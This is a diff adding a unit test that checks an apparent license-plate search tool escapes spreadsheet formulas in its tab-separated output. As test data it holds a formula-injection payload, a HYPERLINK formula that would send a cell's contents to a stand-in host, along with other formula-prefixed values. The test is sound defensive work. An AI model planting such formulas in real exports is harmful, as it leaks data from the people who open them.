@@ -308,6 +308,23 @@ def test_a_forged_sighting_neither_reaches_the_terminal_raw_nor_ends_the_search(
     assert len(out.splitlines()) == 4  # the header and the three sightings, found by their plate
 
 
+def test_no_printed_cell_is_a_formula_when_the_results_are_opened_in_a_spreadsheet(tmp_path: Path, capsys):
+    """`alpr search` prints its results as tab-separated columns, which an operator keeps as they are
+    (`alpr search ... > hits.tsv`) and opens in a spreadsheet: a camera or snapshot whoever may write the
+    log named `=HYPERLINK(...)` (or `gate;=...`, cut at the `;`) was a formula there, where an export's cells
+    were made text (a review)."""
+    path = tmp_path / "reads.sqlite"
+    log = SqliteSightingLog(path)
+    log.record_many([(sighting('=HYPERLINK("http://x.example/?"&D2)', "KPX4721", DAY), "/x;@SUM(1)")])
+    log.record_many([(sighting("gate", "KPX4721", DAY + 60), "-2+3")])
+    log.close()
+    assert main(["search", "KPX4721", "--reason", "case 8", "--sqlite", str(path)]) == 0
+    lines = capsys.readouterr().out.splitlines()
+    cells = [piece for line in lines[1:] for cell in line.split("\t") for piece in cell.split(";")]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
+    assert lines[2].split("\t")[2] == '\'=HYPERLINK("http://x.example/?"&D2)' and "/x;'@SUM(1)" in lines[2]
+
+
 DEEP = "[" * 5000 + "]" * 5000
 """Texts nested past the interpreter's depth (Postgres's jsonb takes them): json.loads raises RecursionError."""
 
